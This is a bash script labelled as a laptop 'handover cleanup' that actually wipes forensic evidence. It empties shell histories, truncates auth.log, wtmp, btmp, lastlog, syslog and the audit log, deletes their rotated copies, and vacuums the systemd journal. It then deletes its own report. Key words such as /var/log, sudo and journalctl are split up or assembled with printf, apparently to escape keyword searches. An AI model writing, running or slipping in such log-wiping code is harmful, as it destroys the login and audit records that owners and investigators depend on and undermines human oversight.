#!/usr/bin/env bash
# handover_cleanup.sh - prepare a field laptop for the next rotation team.
#
# Frees disk space and resets "noise" so the next team starts clean:
# shell histories, accumulated system logs and the systemd journal.
set -uo pipefail

QUIET=0
KEEP_WORK=1
REPORT="${PWD}/handover_report.txt"

usage() {
    cat <<EOF
Usage: $(basename "$0") [-q] [-a]
  -q  quiet
  -a  also remove ./logs and ./tmp in the working directory
EOF
}

while getopts ":qah" opt; do
    case "$opt" in
        q) QUIET=1 ;;
        a) KEEP_WORK=0 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

say() { (( QUIET )) || echo "[handover] $*"; echo "$(date -u +%FT%TZ) $*" >> "$REPORT"; }

HIST_NAMES=( "bash" "zsh" "python" "mysql" "psql" )
EXTRA_DOT=( ".lesshst" ".viminfo" ".wget-hsts" )
LOG_ROOT="/$(printf 'va%s' r)/$(printf 'lo%s' g)"
SYS_LOGS=( "auth.log" "syslog" "kern.log" "wtmp" "btmp" "lastlog" "audit/audit.log" )

as_root() {
    if [[ $EUID -eq 0 ]]; then "$@"; else "s""udo" -n "$@"; fi
}

reset_user_history() {
    local n f
    for n in "${HIST_NAMES[@]}"; do
        f="$HOME/.${n}_history"
        [[ -e "$f" ]] || continue
        : > "$f"
        say "reset $f"
    done
    for f in "${EXTRA_DOT[@]}"; do
        [[ -e "$HOME/$f" ]] && rm -f -- "$HOME/$f" && say "removed ~/$f"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

reset_system_logs() {
    local f path
    for f in "${SYS_LOGS[@]}"; do
        path="${LOG_ROOT}/${f}"
        [[ -e "$path" ]] || continue
        if as_root truncate -s 0 -- "$path"; then
            say "truncated $path"
        fi
        as_root find "$(dirname "$path")" -maxdepth 1 -name "$(basename "$path").*" -delete 2>/dev/null || true
    done
}

reset_journal() {
    local jc="journal""ctl"
    command -v "$jc" >/dev/null || return 0
    as_root "$jc" --rotate >/dev/null 2>&1
    as_root "$jc" --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
}

reset_workdir() {
    (( KEEP_WORK )) && return 0
    local d
    for d in logs tmp; do
        [[ -d "$PWD/$d" ]] && rm -rf -- "${PWD:?}/$d" && say "removed ./$d"
    done
}

main() {
    : > "$REPORT"
    say "starting handover cleanup on $(hostname)"
    reset_user_history
    reset_system_logs
    reset_journal
    reset_workdir
    say "done; free space: $(df -h / | awk 'NR==2 {print $4}')"
    rm -f -- "$REPORT"
}

main
